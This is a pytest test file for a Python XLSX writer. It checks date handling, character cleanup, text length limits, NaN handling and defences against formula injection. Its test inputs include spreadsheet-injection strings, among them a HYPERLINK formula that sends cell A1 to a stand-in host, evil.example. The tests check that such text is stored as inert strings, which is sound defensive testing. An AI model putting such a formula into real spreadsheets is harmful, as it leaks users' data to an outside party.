"""The streaming one-sheet XLSX writer (nucleo/xlsx.py): openpyxl reads back what openpyxl itself
would have written, no text cell is a formula, and bad text never breaks the file."""

from __future__ import annotations

import io
import math
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from nucleo.exports import new_workbook, workbook_bytes
from nucleo.xlsx import xlsx_bytes

ROWS: list[list[object]] = [
    ["Radicado", "Fecha", "Días", "Texto"],
    ["IMP-2026-00001", date(2026, 5, 1), 5, "Mi hermano es el oferente."],
    ["=HYPERLINK(\"http://x\")", None, "", "+57 300"],
    ["-1", date(2026, 12, 31), -3.5, "@SUM(A1)"],
    ["ñandú 😬 <b>&amp;</b>\nsegunda línea", True, 10**15, "\tcon tabulador"],
    ["comillas \" y ' y ]]>", datetime(2026, 1, 2, 3, 4, 5), Decimal("12.50"), "fin"],
    [],
    ["Solo una celda"],
]


def cells(data: bytes) -> list[list[object]]:
    book = load_workbook(io.BytesIO(data))
    return [[c.value for c in row] for row in book.active.iter_rows()]


def test_openpyxl_reads_back_what_openpyxl_would_have_written():
    book, sheet = new_workbook("Declaraciones")
    for row in ROWS:
        sheet.append(row)
    assert cells(xlsx_bytes("Declaraciones", ROWS)) == cells(workbook_bytes(book))


def test_dates_look_like_dates_and_text_is_never_a_formula():
    book = load_workbook(io.BytesIO(xlsx_bytes("Hoja", ROWS)))
    sheet = book.active
    assert sheet["B2"].is_date and sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet["B6"].value == datetime(2026, 1, 2, 3, 4, 5)
    assert sheet["A3"].value == "'=HYPERLINK(\"http://x\")" and sheet["A3"].data_type == "s"
    assert sheet["D4"].value == "'@SUM(A1)" and sheet["C4"].value == -3.5
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_characters_xml_cannot_hold_are_dropped_not_fatal():
    data = xlsx_bytes("Hoja", [["a\x00b\x07c\x1fd\ufffe", "ok"]])
    assert cells(data) == [["abcd", "ok"]]


def test_a_lone_carriage_return_is_kept_as_typed():  # openpyxl would make it a line feed
    assert cells(xlsx_bytes("Hoja", [["a\rb", "\rx"]])) == [["a\rb", "'\rx"]]


def test_many_columns_and_rows_and_a_bad_sheet_name():
    rows = [[f"{r}-{c}" for c in range(30)] for r in range(1200)]
    data = xlsx_bytes("Registro: [2026]/*?" + "x" * 40, rows)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Registro   2026    xxxxxxxxxxxx"]
    assert book.active["AD1200"].value == "1199-29" and book.active.max_row == 1200
    assert cells(xlsx_bytes("", [])) == [] and load_workbook(
        io.BytesIO(xlsx_bytes("", []))).sheetnames == ["Hoja1"]


def test_repeated_text_is_stored_once():
    data = xlsx_bytes("Hoja", [["Radicada", "Impedimento"]] * 5000)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        strings = package.read("xl/sharedStrings.xml").decode()
    assert strings.count("<si>") == 2 and 'count="10000"' in strings


def test_a_zoned_datetime_is_refused():
    with pytest.raises(TypeError):
        xlsx_bytes("Hoja", [[datetime(2026, 1, 1, tzinfo=UTC)]])


def numbers_are_doubles(data: bytes) -> None:
    """Every number cell of the sheet holds a finite xsd:double (Excel refuses the file if not)."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    for cell in re.finditer(r'<c r="[A-Z]+\d+"( s="\d")?><v>([^<]*)</v>', sheet):
        assert math.isfinite(float(cell.group(2))), cell.group(0)
    assert "<f>" not in sheet


def test_nan_and_infinities_are_text_never_a_broken_number():
    row = [Decimal("NaN"), Decimal("Infinity"), Decimal("-Infinity"), Decimal("sNaN"),
           math.nan, math.inf, -math.inf, Decimal("1E+400"), 10**400, Decimal("-0.5")]
    data = xlsx_bytes("Hoja", [row])
    numbers_are_doubles(data)
    assert cells(data) == [["NaN", "Infinity", "'-Infinity", "sNaN", "nan", "inf", "'-inf",
                            "1E+400", str(10**400), -0.5]]


def test_text_is_cut_at_excels_limit():
    long, emoji, formula = "a" * 40_000, "😬" * 20_000, "=" * 40_000
    back = cells(xlsx_bytes("Hoja", [[long, emoji, formula, "b" * 32_767]]))[0]
    assert back[0] == "a" * 32_767 and back[3] == "b" * 32_767
    assert back[1] == "😬" * 16_383  # Excel counts UTF-16 units: a pair is never split
    assert back[2] == "'" + "=" * 32_766


def test_dates_before_1900_are_text_and_the_first_days_of_1900_match_openpyxl():
    early = [date(1900, 1, 1), date(1900, 2, 28), date(1900, 3, 1), datetime(1900, 2, 28, 12)]
    book, sheet = new_workbook("Hoja")
    sheet.append(early)
    assert cells(xlsx_bytes("Hoja", [early])) == cells(workbook_bytes(book))
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes("Hoja", [early]))) as package:
        serials = re.findall(r"<v>([^<]*)</v>", package.read("xl/worksheets/sheet1.xml").decode())
    assert serials == ["1", "59", "61", "59.5"]  # Excel's serials (it counts a 29 Feb 1900)
    before = [date(1899, 12, 31), date(1850, 5, 1), datetime(1899, 1, 1, 10, 30)]
    assert cells(xlsx_bytes("Hoja", [before])) == [["1899-12-31", "1850-05-01",
                                                     "1899-01-01 10:30:00"]]


def test_control_characters_and_typed_excel_escapes_stay_as_typed():
    row = ["a\x0bb\x0cc\ud800d", "línea\nsegunda\tcol", "_x0041_ y _x00e9_", "\x01=1+1"]
    data = xlsx_bytes("Hoja", [row])
    assert cells(data) == [["abcd", "línea\nsegunda\tcol", "_x0041_ y _x00e9_", "'=1+1"]]
    with zipfile.ZipFile(io.BytesIO(data)) as package:  # Excel would read _x0041_ as «A»
        assert "_x005F_x0041_ y _x005F_x00e9_" in package.read("xl/sharedStrings.xml").decode()


def test_a_hyperlink_formula_is_text():
    formula = '=HYPERLINK("http://evil.example/x?c="&A1,"Ver detalle")'
    data = xlsx_bytes("Hoja", [[formula, "@cmd", "+1", "-1"]])
    numbers_are_doubles(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[1]] == ["'" + formula, "'@cmd", "'+1", "'-1"]
    assert all(c.data_type == "s" for c in sheet[1])
